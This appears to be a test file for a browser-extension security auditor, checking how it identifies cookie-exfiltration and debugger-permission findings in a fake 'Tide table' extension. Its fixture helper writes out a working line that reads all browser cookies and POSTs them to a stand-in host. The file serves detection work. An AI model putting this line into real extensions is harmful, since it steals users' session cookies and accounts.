import assert from 'node:assert/strict';
import { test } from 'node:test';
import { buildZip } from '../../fixtures/packages/build-zip.ts';
import { audit } from '../audit.ts';

const steals = (host: string) =>
  `chrome.cookies.getAll({}, (all) => fetch("https://${host}/in", { method: "POST", body: JSON.stringify(all) }));`;

async function identitiesOf(files: Readonly<Record<string, string>>, rule: string) {
  const manifest = {
    manifest_version: 3,
    name: 'Tide table',
    version: '4.1',
    permissions: ['cookies', 'debugger'],
    host_permissions: ['<all_urls>'],
    background: { service_worker: 'worker.js' },
  };
  const texts = { 'manifest.json': JSON.stringify(manifest), ...files };
  const bytes = buildZip(Object.entries(texts).map(([name, contents]) => ({ name, contents })));
  const source = { kind: 'bytes', bytes, name: 'tides.zip' } as const;
  const { report } = await audit(source, { analyzedAt: '2026-01-01T00:00:00Z' });
  return report.findings.find(({ id }) => id === rule)?.identities;
}

const stolen = { source: 'cookies', sink: 'network', context: 'service-worker' };

test('a finding is known by the kinds of its flow, the receiver and the context', async () => {
  const identities = await identitiesOf({ 'worker.js': steals('a.tides.dev') }, 'cookies-sent');
  assert.deepEqual(identities, [{ ...stolen, receiver: 'a.tides.dev' }]);
});

test('lines and repetitions make no other finding of it, and another receiver does', async () => {
  const moved = `// A comment.\n\n${steals('a.tides.dev')}\n${steals('a.tides.dev')}`;
  assert.deepEqual(await identitiesOf({ 'worker.js': moved }, 'cookies-sent'), [
    { ...stolen, receiver: 'a.tides.dev' },
  ]);
  const two = `${steals('a.tides.dev')}\n${steals('b.tides.dev')}`;
  assert.deepEqual(await identitiesOf({ 'worker.js': two }, 'cookies-sent'), [
    { ...stolen, receiver: 'a.tides.dev' },
    { ...stolen, receiver: 'b.tides.dev' },
  ]);
});

test('a finding about a permission is known by it', async () => {
  assert.deepEqual(await identitiesOf({ 'worker.js': '' }, 'debugger-permission'), [
    { permission: 'debugger' },
  ]);
});
